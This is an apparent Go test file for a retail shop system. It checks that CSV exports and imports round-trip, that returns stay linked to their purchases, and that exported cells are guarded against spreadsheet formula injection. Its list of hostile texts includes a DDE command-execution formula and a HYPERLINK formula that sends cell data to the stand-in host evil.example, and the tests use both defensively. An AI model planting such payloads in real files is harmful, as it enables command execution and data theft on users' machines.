@@ -1,0 +1,217 @@
+package main
+
+import (
+	"bytes"
+	"context"
+	"encoding/csv"
+	"fmt"
+	"math/rand/v2"
+	"os"
+	"path/filepath"
+	"slices"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/google/go-cmp/cmp"
+)
+
+// TestExportImportsAgain moves an organization to another store by its files.
+func TestExportImportsAgain(t *testing.T) {
+	from, to := newRetailShop(t), newRetailShop(t)
+	from.importFile(t, importCustomers, "testdata/retail/customers.csv")
+	from.importFile(t, importSales, "testdata/retail/sales.csv")
+	for _, kind := range []string{importCustomers, importSales} {
+		name := filepath.Join(t.TempDir(), kind+".csv")
+		if err := os.WriteFile(name, from.exportedCSV(t, kind), 0o600); err != nil {
+			t.Fatal(err)
+		}
+		if report, rejected := to.importFile(t, kind, name); report.Wrong != 0 || report.Known != 0 {
+			t.Errorf("%s: %+v\n%s", kind, report, rejected)
+		}
+		if d := cmp.Diff(string(from.exportedCSV(t, kind)), string(to.exportedCSV(t, kind))); d != "" {
+			t.Errorf("%s differ:\n%s", kind, d)
+		}
+		if report, _ := from.importFile(t, kind, name); report.Added != 0 || report.Wrong != 0 {
+			t.Errorf("%s into where they came from: %+v", kind, report)
+		}
+	}
+	lines := bytes.Count(from.exportedCSV(t, exportMovements), []byte("\n"))
+	n, err := read(context.Background(), from.engine, from.org, 0, func(t *txn) (*counters, error) { return t.count() })
+	if err != nil || lines != int(n.Movements)+1 {
+		t.Errorf("%d lines for %d movements (%v)", lines, n.Movements, err)
+	}
+}
+
+// links tells of the first sales what they earned or took back, and which purchase
+// they belong to.
+func (s *shop) links(sales uint64) string {
+	s.Helper()
+	return ask(s, func(t *txn) (string, error) {
+		told := ""
+		for seq := range sales {
+			x, err := t.saleAt(seq + 1)
+			if err != nil {
+				return "", err
+			}
+			told += fmt.Sprintln(x.Type, x.Total, x.Earned, x.Reversed, x.Unearned, x.Returned, x.Lines)
+			if x.Previous != (id{}) {
+				p, err := t.sale(x.Previous)
+				if err != nil {
+					return "", err
+				}
+				told += fmt.Sprintln(" of", p.Seq)
+			}
+		}
+		return told, nil
+	})
+}
+
+// TestExportLinksReturns shows that returns are linked again in another store
+// as they were here, by whatever they were linked.
+func TestExportLinksReturns(t *testing.T) {
+	with := setup{at: "2026-03-02T10:00:00Z", program: `"rules":[` + onePer1 + `]`}
+	from, to := newShop(t, with), newShop(t, with)
+	ana := from.customer("ana")
+	sell := func(in newSale) *sale {
+		t.Helper()
+		from.pass(time.Minute)
+		in.Customer = ana
+		sold, err := from.sell(in)
+		from.ok(err)
+		return sold
+	}
+	items := []item{{"X", dec("10"), dec("2")}, {"Y", dec("30"), dec("1")}}
+	nameless := sell(newSale{Total: dec("50"), Items: items})
+	named := sell(newSale{Total: dec("50"), Items: items, ExternalID: "A"})
+	twin := sell(newSale{Total: dec("40"), ExternalID: "B"})
+	sell(newSale{Total: dec("40"), ExternalID: "B"})
+	for _, purchase := range []*sale{nameless, named, twin} {
+		one, two := []item{{"X", dec("10"), dec("1")}}, []item{{"Y", dec("30"), dec("1")}}
+		if len(purchase.Items) == 0 {
+			one, two = nil, nil
+		}
+		sell(newSale{Type: typeReturn, Total: dec("10"), Items: one, Original: &purchase.ID})
+		sell(newSale{Type: typeReturn, Total: dec("30"), Items: two, Original: &purchase.ID, ExternalID: "R-1"})
+	}
+	sell(newSale{Type: typeReturn, Total: dec("1")})
+	sell(newSale{Type: typeReturn, Total: dec("5"), ExternalID: "B"})
+
+	to.clock = from.clock
+	to.customer("ana")
+	name := filepath.Join(t.TempDir(), "sales.csv")
+	from.ok(os.WriteFile(name, from.exportedCSV(t, importSales), 0o600))
+	if report, rejected := to.importFile(t, importSales, name); report.Added != 12 || report.Known+report.Wrong != 0 {
+		t.Errorf("%+v\n%s", report, rejected)
+	}
+	if d := cmp.Diff(from.links(12), to.links(12)); d != "" {
+		t.Errorf("sales differ:\n%s", d)
+	}
+	for _, s := range []*shop{from, to} {
+		if report, rejected := s.importFile(t, importSales, name); report.Known != 12 || report.Added+report.Wrong != 0 {
+			t.Errorf("again: %+v\n%s", report, rejected)
+		}
+	}
+}
+
+// hostileTexts are what somebody may call himself so that a spreadsheet does what it
+// says, and what only looks like that.
+var hostileTexts = []string{
+	"=1+1", "+SUM(A1:A9)", "-2+3", "@SUM(1)", "=cmd|' /C calc'!A0", `=HYPERLINK("http://evil.example?x="&A1,"ver")`, "＝1+1", "－1+1", "＋1", "＠x", "+", "-", "=",
+	"'=1", "''-x", "'", "''", "'s-Hertogenbosch", "' =1", "-5", "+5", "-5.25", "'-5", "- 5", "+52 55", "-1e9", "a=1", "a;=1", "=1,\"2\"\n=3", "Ana",
+}
+
+// TestExportFormulas: a spreadsheet finds nothing to run in an export, and what is
+// imported again is to the byte what was exported. Raw, the texts are as they are.
+func TestExportFormulas(t *testing.T) {
+	from, to, raw := newTill(t), newTill(t), newTill(t)
+	for _, s := range []*till{from, to, raw} {
+		s.ok("apply " + s.file("org.json", string(setup{}.document())))
+	}
+	var customers, sales bytes.Buffer
+	c, s := csv.NewWriter(&customers), csv.NewWriter(&sales)
+	c.Write(exportColumns[importCustomers])
+	s.Write(exportColumns[importSales])
+	for i, text := range hostileTexts {
+		address := fmt.Sprintf("c%d@example.com", i)
+		c.Write([]string{text, text, address, fmt.Sprintf("+5255123456%02d", i)})
+		s.Write([]string{fmt.Sprintf("%s%d", strings.TrimRight(text, "'")+"x", i), "2026-01-05T10:00:00Z", address, "", typePurchase, "10", text, "1", "10", text})
+	}
+	c.Flush()
+	s.Flush()
+	from.ok("import customers -raw " + from.file("c.csv", customers.String()))
+	from.ok("import sales -raw " + from.file("s.csv", sales.String()))
+	for _, kind := range []string{importCustomers, importSales} {
+		exported, plain := from.ok("export "+kind), from.ok("export "+kind+" -raw")
+		rows, err := csv.NewReader(strings.NewReader(exported)).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		column := slices.Index(exportColumns[kind], map[string]string{importCustomers: "lastName", importSales: "comment"}[kind])
+		rawRows, err := csv.NewReader(strings.NewReader(plain)).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		for i, text := range hostileTexts {
+			if got := rawRows[i+1][column]; got != text {
+				t.Errorf("%s: raw, %q is %q", kind, text, got)
+			}
+		}
+		for _, cell := range slices.Concat(rows...) {
+			runs := strings.ContainsAny(cell[:min(len(cell), 1)], "=+-@\t\r") || strings.IndexAny(cell, "＝＋－＠") == 0
+			if _, err := strconv.ParseFloat(cell, 64); runs && (err != nil || strings.ContainsAny(cell, "eE")) {
+				t.Errorf("%s: a spreadsheet would run %q", kind, cell)
+			}
+		}
+		to.ok("import " + kind + " " + to.file(kind+".csv", exported))
+		raw.ok("import " + kind + " -raw " + raw.file(kind+".csv", plain))
+		for _, other := range []*till{to, raw} {
+			if d := cmp.Diff(exported, other.ok("export "+kind)); d != "" {
+				t.Errorf("%s, imported again:\n%s", kind, d)
+			}
+		}
+	}
+}
+
+// TestRejectedFormulas: nor does it in a file of errors.
+func TestRejectedFormulas(t *testing.T) {
+	s := newTill(t)
+	s.ok("apply " + s.file("org.json", string(setup{}.document())))
+	for _, cell := range []string{"=1+1", "'=1+1"} {
+		file := s.file("c.csv", "firstName,email,phoneNumber\n"+cell+",no,\n=a\"b\n")
+		s.run("import customers " + file)
+		want := "line,reason,firstName,email,phoneNumber\n3,no es CSV válido: hay comillas mal puestas,\"'=a\"\"b\"\n2,El email no tiene un formato válido,'=1+1,no,\n"
+		if got := string(readFile(t, file+".errors.csv")); got != want {
+			t.Errorf("%s: %s", cell, got)
+		}
+	}
+}
+
+// TestGuard: for all texts, guarded ones are no formulas, and what is guarded comes back.
+func TestGuard(t *testing.T) {
+	histories(t, 2000, func(t *testing.T, rnd *rand.Rand) {
+		var text []rune
+		for range rnd.IntN(6) {
+			text = append(text, pick(rnd, []rune("'= +-@\t\r\n＝15.ae;\u00a0")...))
+		}
+		row := []string{string(text)}
+		guardCells(row)
+		if guarded := row[0]; strings.IndexAny(guarded, "=@\t\r\n＝") == 0 {
+			t.Errorf("%q is guarded as %q", string(text), guarded)
+		}
+		unguardCells(row)
+		if row[0] != string(text) {
+			t.Errorf("%q comes back as %q", string(text), row[0])
+		}
+	})
+}
+
+func (s *shop) exportedCSV(t *testing.T, kind string) []byte {
+	t.Helper()
+	var out bytes.Buffer
+	if err := writeCSV(context.Background(), s.admin().direct, "cafe-luna", kind, false, &out); err != nil {
+		t.Fatal(err)
+	}
+	return out.Bytes()
+}
